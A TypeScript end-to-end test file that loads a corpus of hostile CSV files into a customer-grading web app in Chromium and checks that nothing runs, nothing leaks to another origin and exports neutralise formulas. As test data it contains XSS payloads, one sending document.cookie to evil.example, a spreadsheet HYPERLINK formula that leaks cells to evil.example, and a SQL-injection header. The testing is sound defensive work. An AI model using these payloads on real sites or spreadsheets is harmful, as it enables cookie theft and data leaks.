// A representative subset of the hostile-input corpus (test/corpus, the cases
// marked e2e) through the real file input of the built site in Chromium, on
// top of the sample graded with a manual adjustment. For every file: the
// message on its card in the page's language; the grading and the adjustment
// still on screen; names with markup shown as text; no script run, no dialog,
// no request to another origin, no console error.

import { columnHeader } from '../../src/export/columns';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseRecords } from '../../src/ingest/delimited';
import { CASES, type CorpusCase } from '../corpus/cases';
import { FILES_DIR, writeLargeFiles } from '../corpus/generate';
import type { WatchedPage } from '../support/browser';
import { openBuiltApp, type OpenApp } from '../support/app';

let app: OpenApp;
let w: WatchedPage;
let large: Record<string, string>;
const dialogs: string[] = [];
const SUBSET = CASES.filter((c) => c.e2e);
const ERRORS = SUBSET.filter((c) => c.error);
const LOADS = SUBSET.filter((c) => c.loads);

/** Grade table and the adjustment as the page shows them. */
interface Screen {
  counts: (string | null | undefined)[][];
  adjustments: string[];
  phase: string | null;
}
let before: Screen;

const screen = async (): Promise<Screen> => ({
  counts: await w.page.$$eval('[data-testid="grade-table"] tbody tr', (trs) => trs.map((tr) => [tr.getAttribute('data-grade'), tr.querySelector('[data-testid="grade-count"]')?.textContent?.trim()])),
  adjustments: await w.page.$$eval('[data-testid="adjustments"] tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 4).map((td) => td.textContent?.trim()).join(' | '))),
  phase: await w.page.getAttribute('[data-testid="status"]', 'data-phase'),
});

const idle = () => w.page.waitForSelector('[data-testid="ingest"][data-busy="false"]', { timeout: 120_000 });
const card = (name: string) => w.page.locator(`[data-testid="file-card"][data-file="${name.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"]`);

/** A real file on disk under the user's name (the hostile file name included: Linux allows it). */
let upload: string;
function pathOf(c: CorpusCase): string {
  const name = c.name ?? c.file;
  if (c.large) return large[c.file]!;
  if (!c.name) return join(FILES_DIR, c.file);
  const path = join(upload, name);
  if (!existsSync(path)) copyFileSync(join(FILES_DIR, c.file), path);
  return path;
}

async function drop(c: CorpusCase): Promise<void> {
  await w.page.setInputFiles('[data-testid="file-input"]', pathOf(c));
  await card(c.name ?? c.file).waitFor({ timeout: 60_000 });
  await expect.poll(() => card(c.name ?? c.file).getAttribute('data-status'), { timeout: 120_000 }).not.toBe('loading');
  await idle();
}

async function removeCard(name: string): Promise<void> {
  await card(name).getByRole('button', { name: /移除|Remove/ }).click();
  await expect.poll(() => card(name).count(), { timeout: 60_000 }).toBe(0);
  await idle();
}

/** Nothing from the files ran: no flag, no element the markup would have made, no dialog. */
async function expectNothingRan(): Promise<void> {
  expect(await w.page.evaluate(() => (window as unknown as { __corpusPwned?: unknown }).__corpusPwned)).toBeUndefined();
  expect(await w.page.locator('img[src="x"], iframe, svg[onload], b[onmouseover], script:not([src])').count()).toBe(0);
  expect(dialogs).toEqual([]);
}

beforeAll(async () => {
  large = await writeLargeFiles();
  upload = mkdtempSync(join(tmpdir(), 'tierscope-corpus-upload-'));
  app = await openBuiltApp('/corpus/');
  w = app.w;
  w.page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
}, 300_000);

afterAll(() => app?.close());

describe('hostile files in Chromium', () => {
  it('starts on the sample, with an adjustment made before any file arrives', async () => {
    // It must survive everything below.
    await w.page.locator('[data-testid="open-customer"]').first().click();
    const detail = w.page.locator('[data-testid="customer-detail"]');
    await detail.waitFor();
    await detail.locator('[data-testid="adjust-grade"]').selectOption('D');
    await detail.locator('[data-testid="adjust-reason"]').fill('长期拖欠货款');
    await detail.locator('[data-testid="adjust-author"]').fill('王经理');
    await detail.locator('[data-testid="adjust-submit"]').click();
    await w.page.locator('[data-testid="adjustments"] tbody tr').first().waitFor({ timeout: 60_000 });
    await expect.poll(async () => (await screen()).phase, { timeout: 60_000 }).toBe('ready');
    before = await screen();

    expect(before.adjustments).toHaveLength(1);
    expect(before.adjustments[0]).toContain('长期拖欠货款');
    expect(before.counts.map((c) => c[0])).toEqual(['A', 'B', 'C', 'D']);
  });

  it.each(ERRORS.map((c) => [c.file, c] as const))('%s: the card names what is wrong; the grading stays', async (_f, c) => {
    await drop(c);
    const name = c.name ?? c.file;
    expect(await card(name).getAttribute('data-status')).toBe('error');
    expect(await card(name).locator('[data-testid="file-error"]').textContent()).toBe((c.browserError ?? c.error!).zh);
    expect(await screen()).toEqual(before);
    await expectNothingRan();
  });

  it('shows the error cards in English after switching the language, and back', async () => {
    await w.page.click('button.lang');
    for (const c of ERRORS) expect(await card(c.name ?? c.file).locator('[data-testid="file-error"]').textContent()).toBe((c.browserError ?? c.error!).en);
    mkdirSync('test-results', { recursive: true });
    await w.page.locator('#data').screenshot({ path: 'test-results/corpus-errors-en.png' });
    await w.page.click('button.lang');
    await expect.poll(() => card(ERRORS[0]!.file).locator('[data-testid="file-error"]').textContent()).toBe(ERRORS[0]!.error!.zh);
    await w.page.locator('#data').screenshot({ path: 'test-results/corpus-errors-zh.png' });
    for (const c of ERRORS) await removeCard(c.name ?? c.file);
    expect(await screen()).toEqual(before);
  });

  it.each(LOADS.map((c) => [c.file, c] as const))('%s: loads with its warnings, is graded, shows its names as text; the adjustment comes back', async (_f, c) => {
    await drop(c);
    const name = c.name ?? c.file;
    expect(await card(name).getAttribute('data-status')).toBe('ready');
    const warnings = await card(name).locator('[data-testid="file-warning"]').evaluateAll((li) => li.map((x) => x.getAttribute('data-id')));
    expect(warnings).toEqual(c.loads!.notices);
    for (const s of c.loads!.noticeTextZh ?? []) expect((await card(name).locator('[data-testid="file-warnings"]').textContent()) ?? '').toContain(s);
    // The file alone is graded (the sample steps aside).
    await expect.poll(() => w.page.getAttribute('[data-testid="ingest"]', 'data-source'), { timeout: 60_000 }).toBe('files');
    await expect.poll(async () => (await screen()).phase, { timeout: 60_000 }).toBe('ready');
    if (c.session?.grade) {
      await expect.poll(() => w.page.textContent('[data-testid="total-customers"]'), { timeout: 60_000 }).toBe(String(c.session.grade.customers));
    }
    const names = await w.page.$$eval('[data-testid="customer-list"] [data-testid="open-customer"]', (bs) => bs.map((b) => b.textContent ?? ''));
    await (EXTRA[c.file] ?? (async () => {}))(names);
    await expectNothingRan();
    await removeCard(name);
    await expect.poll(() => w.page.getAttribute('[data-testid="ingest"]', 'data-source'), { timeout: 60_000 }).toBe('sample');
    await expect.poll(screen, { timeout: 60_000 }).toEqual(before);
  });

  it('made no request to another origin, hit no missing file, ran nothing and logged no console error', async () => {
    await expectNothingRan();
    expect(w.foreignRequests).toEqual([]);
    expect(w.failedRequests).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
  });
});

const EXTRA: Record<string, (names: string[]) => Promise<void>> = {
  'html-script-names.csv': async (names) => {
    // The markup is text on the page, character for character.
    expect(names).toContain('<script>window.__corpusPwned=2</script>');
    expect(names).toContain(`<img src=x onerror="window.__corpusPwned=1;fetch('http://evil.example/steal?c='+document.cookie)">`);
    expect(names).toContain('&lt;b&gt;already escaped&lt;/b&gt; &amp; co');
    // The header with markup is a column name in the mapping editor, as text.
    const cols = await w.page.$$eval('[data-testid="field-select"]', (ss) => ss.map((s) => s.getAttribute('data-column')));
    expect(cols).toContain('<b onmouseover="window.__corpusPwned=6">备注</b>');
    await w.page.hover('[data-testid="customer-list"]');
    mkdirSync('test-results', { recursive: true });
    await w.page.screenshot({ path: 'test-results/corpus-html-names.png', fullPage: false });
  },
  'rtl-invisible-names.csv': async (names) => {
    expect(new Set(names)).toEqual(new Set(['\u202e司公限有联华京北', 'شركة الخليج للتجارة', 'חברת הסחר בע״מ', '北京\u200b华联', '👨\u200d👩\u200d👧 家庭商店', 'abc\u2066def\u2069ghi']));
    // A right-to-left override inside a name cannot reorder the cells next to it.
    const row = w.page.locator('[data-testid="customer-list"] tbody tr', { hasText: '司公限有联华京北' });
    const id = await row.locator('td').nth(1).textContent();
    expect(id?.trim()).toMatch(/^K00\d$/);
    await w.page.locator('[data-testid="customer-list"]').screenshot({ path: 'test-results/corpus-rtl-names.png' });
  },
  'hostile-file-name.csv': async () => {
    expect(await w.page.locator('[data-testid="file-card"] .name').first().textContent()).toBe('<img src=x onerror="window.__corpusPwned=8">订单.csv');
  },
  'formula-injection.csv': async (names) => {
    expect(names).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"点这里")');
    const [download] = await Promise.all([w.page.waitForEvent('download'), w.page.click('[data-testid="export-csv"]')]);
    const csv = readFileSync((await download.path())!, 'utf8');
    const records = parseRecords(csv.replace(/^\uFEFF/, ''), ',', 1e6, false);
    const header = records[0]!;
    // The export's headers are in the page's language.
    const exported = records.slice(1).map((r) => r[header.indexOf(columnHeader('customer_name', 'zh'))]);
    expect(exported).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"点这里")`);
    expect(exported).toContain("'\t=1+1");
    for (const r of records) for (const f of r) if (/^[=+\-@\t\r]/.test(f)) expect(f).toMatch(/^-\d+(\.\d+)?(e[-+]?\d+)?$/);
  },
  'nan-infinity.csv': async () => {
    // Every score on the page is a number: no NaN, no Infinity anywhere in the grade table or the list.
    const text = (await w.page.textContent('[data-testid="grade-table"]')) + ((await w.page.textContent('[data-testid="customer-list"]')) ?? '');
    expect(text).not.toMatch(/NaN|Infinity|∞/);
    await card('nan-infinity.csv').screenshot({ path: 'test-results/corpus-warnings.png' });
  },
  'hostile-headers.csv': async () => {
    const cols = await w.page.$$eval('[data-testid="field-select"]', (ss) => ss.map((s) => s.getAttribute('data-column')));
    expect(cols).toContain('"; DROP TABLE base_orders; --');
    // The sample's tables are still there to go back to (checked when the file is removed).
  },
  'utf8-then-gbk.csv': async (names) => {
    expect(new Set(names)).toEqual(new Set(['客户1号', '客户2号', '客户3号']));
    expect(await card('utf8-then-gbk.csv').locator('[data-testid="encoding-warning"]').textContent()).toContain('GB18030');
  },
};


